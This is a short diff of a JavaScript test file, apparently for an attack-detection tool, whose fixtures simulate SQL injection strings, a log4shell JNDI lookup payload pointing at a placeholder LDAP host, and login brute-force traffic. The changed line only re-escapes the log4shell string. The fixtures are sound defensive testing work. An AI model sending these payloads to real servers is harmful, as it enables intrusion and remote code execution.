@@ -131,7 +131,7 @@ describe('an attacker is who', () => {
         "1' or 1=1#",
       ].map((q, n) => http(n, `GET /?id=${encodeURIComponent(q)}`)),
     ],
-    ['tenstrip/http-exploit-attempt', 'sends log4shell', [http(0, 'GET /', 200, '${jndi:ldap://x/a}')]],
+    ['tenstrip/http-exploit-attempt', 'sends log4shell', [http(0, 'GET /', 200, '\u0024{jndi:ldap://x/a}')]],
     ['tenstrip/http-login-bf', 'stuffs a login form', times(6, (n) => http(n, 'POST /login', 401))],
     ['tenstrip/http-slow-login-bf', 'does so slowly', times(20, (n) => http(n * 15, 'POST /api/v1/login', 401))],
     [
